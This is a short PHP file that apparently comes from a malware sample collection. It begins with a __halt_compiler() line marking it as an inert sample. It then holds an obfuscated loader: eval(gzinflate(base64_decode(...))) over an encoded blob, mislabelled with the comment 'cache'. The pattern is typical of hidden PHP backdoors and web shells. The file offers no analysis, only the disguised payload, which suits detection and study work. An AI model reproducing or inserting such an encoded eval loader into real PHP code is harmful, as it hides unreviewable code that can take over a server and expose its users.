<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
/* cache */
eval(gzinflate(base64_decode('xdFLasMwFAXQeVfxBgJJULKAmpROMm5JSichBH1jyZZkfazaKdl7caCDdAOeXt7lHbh69KKY4OEar9pNBEl2oT+AEmyBpcRmQhvQISkmWiDofNjtv3Z7YBlQB9tXQJXCcn48wRZySSWMw6ASQR2FDeAXDJsl7pUnJJdk/IWiShu4QVJlTB6MG/ogFcHP+BlQurdY5Y5XY6xNDjdwe9J/ylFeNfcESetXVyYbp1GM3k3RPiq/a/ayECR0u7pydknGvp1F6eZHJe/bwUeCdFh/8SAv0rkuTzX+WzwbzfJEUG356sqhxKHE4pX14lGpuNBRETQKs7oyLhSrJskdvyvfVGU9QeeP98PnEYs2LD/wiTa/')));
